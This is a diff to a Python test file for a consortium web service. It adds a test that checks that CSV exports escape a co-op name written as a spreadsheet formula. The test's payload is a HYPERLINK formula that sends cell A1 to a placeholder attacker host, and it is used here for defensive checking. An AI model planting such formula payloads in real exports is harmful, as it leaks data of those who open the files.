@@ -1,15 +1,22 @@
 """Every answer of the node and the consortium carries the security headers; the
 pages hold no inline script or style, so a CSP without 'unsafe-inline' holds."""
 
+import asyncio
+import csv
+import io
 import re
 from collections.abc import Callable
+from pathlib import Path
 
 import aiohttp
 
 from federation.broker import NatsServer
 from federation.http import make_consortium_app
 from federation.service import ConsortiumService
+from node.config import NodeConfig, new_secret
+from node.service import NodeService
 from tests.web import LiveNode, bearer, serving
+from toolkit.config import BrokerConfig, StoreConfig
 
 INLINE = re.compile(
     r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=|\son[a-z]+=|javascript:", re.I
@@ -59,3 +66,51 @@ async def test_consortium_answers_carry_the_headers(
                 assert_secured(response, path)
                 if path == "/":
                     assert not INLINE.findall(await response.text())
+
+
+async def test_a_coop_named_like_a_formula_is_text_in_the_csv(
+    tmp_path: Path,
+    nats_server: NatsServer,
+    make_consortium: Callable[..., ConsortiumService],
+) -> None:
+    """A co-op may call itself anything; a spreadsheet opening the consortium's
+    CSV must not run its name as a formula."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+    consortium = make_consortium([nats_server.url])
+    node = NodeService(
+        NodeConfig(
+            coop_id="evil",
+            name=evil,
+            secret=new_secret(),
+            store=StoreConfig(path=str(tmp_path / "evil.db")),
+            broker=BrokerConfig(servers=[nats_server.url]),
+        )
+    )
+    node.found_if_new()
+    node.start()
+    try:
+        await until_applied(consortium, node)
+        async with (
+            serving(make_consortium_app(consortium)) as url,
+            aiohttp.ClientSession() as session,
+        ):
+            for figure in ("coops", "growth-tree"):
+                async with session.get(f"{url}/figures/{figure}.csv") as response:
+                    rows = list(csv.reader(io.StringIO(await response.text())))
+                names = [row[1] for row in rows[1:]]
+                assert names == ["'" + evil], figure
+    finally:
+        await node.stop()
+
+
+async def until_applied(consortium: ConsortiumService, node: NodeService) -> None:
+    for _ in range(400):
+        if (
+            node.caught_up
+            and consortium.views.position(node.config.coop_id)
+            >= (node.replicator.published.seq)
+            > 0
+        ):
+            return
+        await asyncio.sleep(0.05)
+    raise TimeoutError("the consortium did not apply the node's envelopes")
